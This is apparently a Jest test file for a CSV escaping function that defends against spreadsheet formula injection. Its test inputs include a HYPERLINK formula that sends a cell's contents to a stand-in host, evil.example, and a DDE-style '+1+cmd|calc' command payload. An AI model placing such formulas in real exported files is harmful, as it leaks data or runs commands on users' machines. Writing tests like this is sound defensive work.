import { describe, expect, it } from '@jest/globals';
import { csvCell, csvLine } from './csv-cell.js';

describe('a CSV cell', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`,
    ],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['+1+cmd|calc', "'+1+cmd|calc"],
    ['-2+3', "'-2+3"],
    ['  =1+1', "'  =1+1"],
    ['\t=1', "'\t=1"],
    ['＝1+1', "'＝1+1"],
  ])('when the text %j would be a formula, then it starts with a quote mark and is text', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it('when text holds a comma, a quote or a line break, then it is quoted; plain text, numbers and nothing pass as they are', () => {
    expect(csvCell('Spam, "lots"')).toBe('"Spam, ""lots"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('Ada Lovelace')).toBe('Ada Lovelace');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvLine([3, null, undefined, '2026-03-01T10:00:00.000Z'])).toBe('3,,,2026-03-01T10:00:00.000Z');
  });
});
